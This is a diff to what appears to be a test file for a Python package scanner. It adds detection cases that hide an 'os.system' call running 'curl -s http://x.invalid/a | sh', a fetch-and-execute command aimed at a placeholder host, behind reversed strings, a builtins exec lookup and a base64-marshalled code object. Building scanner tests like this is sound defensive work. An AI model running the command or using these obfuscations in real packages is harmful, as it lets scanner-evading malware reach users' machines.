@@ -6,6 +6,8 @@ archives are built at test time and only read by the engine.
 
 from __future__ import annotations
 
+import base64
+import marshal
 import struct
 import zlib
 
@@ -16,6 +18,10 @@ from pipvet.analysis.engine import analyze_bytes
 from pipvet.models import Result, Stage, Verdict
 
 COMMAND = "'curl -s http://x.invalid/a | sh'"
+_CODE_BLOB = base64.b64encode(
+    marshal.dumps(compile(f"import os\nos.system({COMMAND})\n", "<x>", "exec"))
+).decode()
+"""The dropper compiled and marshalled (compiled only, never run)."""
 
 SHAPES = {
     "plain": f"import os\nos.system({COMMAND})\n",
@@ -59,6 +65,14 @@ SHAPES = {
     ),
     "module namespace": f"import os\nos.__dict__['system']({COMMAND})\n",
     "vars of the module": f"import os\nvars(os)['system']({COMMAND})\n",
+    "namespace key joined backwards": f"import os\nos.__dict__[''.join(reversed('metsys'))]({COMMAND})\n",
+    "builtins key joined backwards": (
+        f'import builtins\nbuiltins.__dict__["".join(reversed("cexe"))]("import os; os.system({COMMAND})")\n'
+    ),
+    "function code swapped for decoded code": (
+        "import base64, marshal\ndef g():\n    pass\n"
+        f"g.__code__ = marshal.loads(base64.b64decode({_CODE_BLOB!r}))\ng()\n"
+    ),
     "import of a joined name": f"import importlib\nimportlib.import_module('o' + 's').system({COMMAND})\n",
     "map over a literal": f"import os\nlist(map(os.system, [{COMMAND}]))\n",
     "__call__": f"import os\nos.system.__call__({COMMAND})\n",
